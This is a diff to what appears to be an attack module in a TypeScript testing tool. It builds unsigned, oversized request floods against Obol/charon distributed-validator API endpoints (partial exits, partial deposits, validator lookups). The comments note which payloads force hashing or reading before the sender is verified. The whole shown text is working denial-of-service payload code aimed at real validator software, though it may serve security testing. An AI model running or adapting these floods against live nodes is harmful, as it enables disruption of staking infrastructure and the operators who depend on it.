@@ -3,8 +3,8 @@ import type { Attack } from '../attack.ts'
 import { flood, head, post } from '../wire.ts'
 
 const CONNECTIONS = 50
-/** Exits of one request, some 0.3 MB: their root is computed before anybody knows who sends them. */
-const EXITS = 800
+/** Items of one request: some 0.3 MB, which are refused unread for a lock as small as this one, and as many as are read. */
+const [UNREAD, READ] = [800, 600]
 
 /** What charon would post, signed by nobody. */
 function unsigned(): string[] {
@@ -17,17 +17,25 @@ function unsigned(): string[] {
     public_key,
     signed_exit_message: { message: { epoch: '0', validator_index: '5' }, signature },
   }
-  const partial_exits = Array<typeof exit>(EXITS).fill(exit)
   const deposit = {
     pubkey: public_key,
     withdrawal_credentials: `0x01${'00'.repeat(31)}`,
     amount: '32000000000',
     signature,
   }
+  const exits = (count: number) =>
+    post(`/exp/partial_exits/${lock}`, {
+      partial_exits: Array<typeof exit>(count).fill(exit),
+      share_idx: 1,
+      signature: `0x${'11'.repeat(64)}01`,
+    })
   return [
-    post(`/exp/partial_exits/${lock}`, { partial_exits, share_idx: 1, signature: `0x${'11'.repeat(64)}01` }),
-    post(`/deposit_data/partial_deposits/${lock}/1`, { partial_deposit_data: Array(EXITS).fill(deposit) }),
-    post('/obol/eth/v1/beacon/states/head/validators', { ids: Array(EXITS).fill(public_key) }),
+    exits(UNREAD),
+    exits(READ),
+    // The root of these is computed before anybody knows who sends them.
+    exits(expected.validators.length),
+    post(`/deposit_data/partial_deposits/${lock}/1`, { partial_deposit_data: Array(READ).fill(deposit) }),
+    post('/obol/eth/v1/beacon/states/head/validators', { ids: Array(UNREAD).fill(public_key) }),
   ]
 }
 
